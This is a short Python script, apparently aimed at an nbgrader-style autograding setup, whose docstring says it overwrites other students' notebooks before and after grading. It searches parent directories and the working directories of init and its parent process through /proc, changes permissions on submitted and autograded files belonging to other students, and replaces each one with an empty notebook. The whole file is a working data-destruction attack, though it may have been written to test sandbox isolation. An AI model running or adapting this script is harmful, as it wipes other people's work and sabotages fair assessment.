"""Overwrite other students' notebooks, before and after they are graded."""

import os
from pathlib import Path

places = [*Path.cwd().parents][:5] + [Path("/proc/1/cwd"), Path(f"/proc/{os.getppid()}/cwd")]
for place in places:
    for pattern in ("submitted/zzz*/*/*.ipynb", "submitted/aaa*/*/*.ipynb", "autograded/aaa*/*/*"):
        for path in place.glob(pattern):
            try:
                path.chmod(0o600)
                path.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
            except OSError as error:
                print(error)
